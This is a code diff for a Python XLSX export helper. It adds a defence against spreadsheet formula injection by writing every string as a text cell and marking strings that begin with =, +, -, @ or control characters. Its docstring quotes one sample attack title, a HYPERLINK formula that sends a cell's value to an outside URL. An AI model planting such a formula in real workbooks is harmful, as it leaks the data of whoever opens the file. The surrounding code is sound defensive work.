@@ -1,5 +1,10 @@
-"""XLSX downloads: one small helper for every export (numbers stay numbers, rates are real
-percentages, dates real dates, the header bold and frozen).
+"""XLSX downloads: the one helper every export goes through (numbers stay numbers, rates are real
+percentages, dates real dates, the header bold and frozen, and every string is text).
+
+A string is always written as a text cell, never a formula: a title such as
+`=HYPERLINK("http://…?x="&A1,"点此")` (or one starting with +, -, @, a tab or a CR) would otherwise be
+stored as a live formula in a workbook another department opens. Such cells also carry Excel's
+"quote prefix", so editing the cell keeps it text. Characters XML cannot hold are dropped.
 
     sheet = Sheet("各单位", ["单位", "使用率"], formats={1: PERCENT}, widths={0: 24})
     sheet.rows.append(["甲局", 0.75])
@@ -9,6 +14,7 @@ percentages, dates real dates, the header bold and frozen).
 from __future__ import annotations
 
 import io
+from collections.abc import Iterable
 from dataclasses import dataclass, field
 from datetime import datetime
 from urllib.parse import quote
@@ -22,6 +28,8 @@ DECIMAL = "0.00"
 DATE = "yyyy\"年\"m\"月\"d\"日\""
 DATETIME = "yyyy-mm-dd hh:mm"
 _BAD_TITLE = str.maketrans({c: "_" for c in "[]:*?/\\"})
+# What a spreadsheet may read as the start of a formula or a command (OWASP "CSV injection").
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
 
 
 @dataclass(frozen=True)
@@ -36,7 +44,7 @@ class Cell:
 class Sheet:
     title: str
     header: list[str]
-    rows: list[list] = field(default_factory=list)
+    rows: Iterable[list] = field(default_factory=list)  # a list, or a generator for long registers
     formats: dict[int, str] = field(default_factory=dict)  # column index → Excel number format
     widths: dict[int, float] = field(default_factory=dict)  # column index → width in characters
 
@@ -47,9 +55,23 @@ def _value(value):
     return value
 
 
+def _cell(ws, value):
+    """A write-only cell; a string always as text (data type "s"), never as a formula."""
+    from openpyxl.cell import WriteOnlyCell
+    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
+
+    if isinstance(value, str):
+        value = ILLEGAL_CHARACTERS_RE.sub("", value)
+        cell = WriteOnlyCell(ws, value=value)
+        cell.data_type = "s"
+        if value.startswith(FORMULA_STARTS):
+            cell.quotePrefix = True
+        return cell
+    return WriteOnlyCell(ws, value=_value(value))
+
+
 def workbook_bytes(sheets: list[Sheet]) -> bytes:
     from openpyxl import Workbook
-    from openpyxl.cell import WriteOnlyCell
     from openpyxl.styles import Font
     from openpyxl.utils import get_column_letter
 
@@ -62,7 +84,7 @@ def workbook_bytes(sheets: list[Sheet]) -> bytes:
             ws.column_dimensions[get_column_letter(index + 1)].width = width
         header = []
         for text in sheet.header:
-            cell = WriteOnlyCell(ws, value=text)
+            cell = _cell(ws, text)
             cell.font = Font(bold=True)
             header.append(cell)
         ws.append(header)
@@ -72,7 +94,7 @@ def workbook_bytes(sheets: list[Sheet]) -> bytes:
                 fmt = sheet.formats.get(index)
                 if isinstance(value, Cell):
                     value, fmt = value.value, value.number_format or fmt
-                cell = WriteOnlyCell(ws, value=_value(value))
+                cell = _cell(ws, value)
                 if fmt and value is not None and not isinstance(value, str):
                     cell.number_format = fmt
                 elif isinstance(value, datetime):
